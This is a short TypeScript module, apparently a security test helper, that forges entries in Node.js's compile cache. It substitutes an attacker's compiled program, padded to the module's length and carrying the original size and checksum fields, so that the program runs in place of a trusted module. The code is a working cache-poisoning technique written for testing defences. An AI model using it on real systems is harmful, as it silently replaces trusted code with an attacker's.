import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** An entry of Node's compile cache: magic number, sizes of the code and of what it was compiled to, checksums of both. */
const CODE_SIZE = 4;
const CODE_CHECKSUM = 12;

/**
 * What an attacker does who can write to the folder of a compile cache: the entry of this module gets the compiled code
 * of a program of its own, of the same length. It answers with how many entries there were.
 */
export function poison(cache: string, module: string, program: string): number {
  const bytes = statSync(module).size;
  const entries = entriesOf(cache).filter((path) => readFileSync(path).readUInt32LE(CODE_SIZE) === bytes);
  for (const path of entries) {
    const forged = compiled(program.padEnd(readFileSync(module, 'utf8').length));
    readFileSync(path).copy(forged, CODE_SIZE, CODE_SIZE, CODE_SIZE + 4);
    readFileSync(path).copy(forged, CODE_CHECKSUM, CODE_CHECKSUM, CODE_CHECKSUM + 4);
    writeFileSync(path, forged);
  }
  return entries.length;
}

function entriesOf(cache: string): string[] {
  return readdirSync(cache, { recursive: true, encoding: 'utf8' })
    .map((name) => join(cache, name))
    .filter((path) => statSync(path).isFile());
}

function compiled(program: string): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'wordhost-poison-'));
  try {
    const file = join(folder, 'program.mjs');
    writeFileSync(file, program);
    // What looks on at tests would be compiled too. V8 takes nothing that was compiled with other options than the host's.
    const node = [process.execPath, '--no-lazy', file];
    spawnSync('env', ['-i', `NODE_COMPILE_CACHE=${join(folder, 'cache')}`, ...node]);
    const [entry] = entriesOf(join(folder, 'cache'));
    return readFileSync(entry!);
  } finally {
    rmSync(folder, { recursive: true });
  }
}
